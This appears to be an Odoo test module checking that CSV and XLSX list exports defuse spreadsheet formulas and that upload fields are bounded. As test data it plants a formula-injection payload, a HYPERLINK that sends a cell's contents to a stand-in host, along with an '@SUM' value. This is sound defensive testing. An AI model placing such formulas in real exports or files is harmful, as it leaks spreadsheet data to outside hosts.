"""Lists that people export hold what strangers wrote, and a spreadsheet runs none of it."""

import io
import json
import zipfile

from odoo import http
from odoo.tests import HttpCase, tagged

from .governance_fixture import GovernanceCase

# What the code says itself, and nobody types in.
OUR_OWN_WORDS = {"sync.document.type", "sync.field.group"}
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Open")'


@tagged("post_install", "-at_install")
class TestExports(GovernanceCase, HttpCase):
    def setUp(self):
        super().setUp()
        self.evil = self.partner("evil", name=FORMULA)
        self.partner("at", name="@SUM(A1)")
        self.authenticate("admin", "admin")

    def exported(self, kind, **values):
        asked = {
            "model": "sync.trading.partner",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": [],
            "domain": [("code", "in", ("evil", "at"))],
            "groupby": [],
            "import_compat": False,
            "context": {},
            **values,
        }
        response = self.url_open(
            f"/web/export/{kind}", data={"data": json.dumps(asked), "csrf_token": http.Request.csrf_token(self)}
        )
        self.assertEqual(response.status_code, 200, response.text[:300])
        return response.content

    def test_a_csv_holds_no_formula(self):
        lines = self.exported("csv").decode().splitlines()[1:]
        self.assertEqual(len(lines), 2)
        for line in lines:
            self.assertTrue(line.startswith(("\"'=HYPERLINK", "\"'@SUM")), line)

    def test_a_workbook_holds_no_formula(self):
        with zipfile.ZipFile(io.BytesIO(self.exported("xlsx"))) as book:
            sheets = [book.read(name).decode() for name in book.namelist() if "sheet" in name or "Strings" in name]
        self.assertIn("HYPERLINK", "".join(sheets), "it is there, as text")
        self.assertFalse([sheet for sheet in sheets if "<f>" in sheet or "<hyperlink" in sheet])

    def test_every_list_of_ours_is_exported_through_the_same_door(self):
        models = self.env["ir.model"].search([("model", "=like", "sync.%"), ("transient", "=", False)])
        for name in set(models.mapped("model")) - OUR_OWN_WORDS:
            if name in self.env and not self.env[name]._abstract:
                with self.subTest(model=name):
                    self.assertIsInstance(self.env[name], self.registry["sync.exported"])

    def test_nothing_is_uploaded_that_nobody_bounds(self):
        """Documents come through the doors, which have limits; a form takes no file, but the workbench, which refuses
        large ones and keeps none."""
        for name, model in self.registry.models.items():
            for field in model._fields.values() if name.startswith("sync.") else ():
                with self.subTest(field=str(field)):
                    bounded = str(field) == "sync.mapping.workbench.upload"
                    self.assertFalse(field.type in ("binary", "image") and not field.readonly and not bounded)
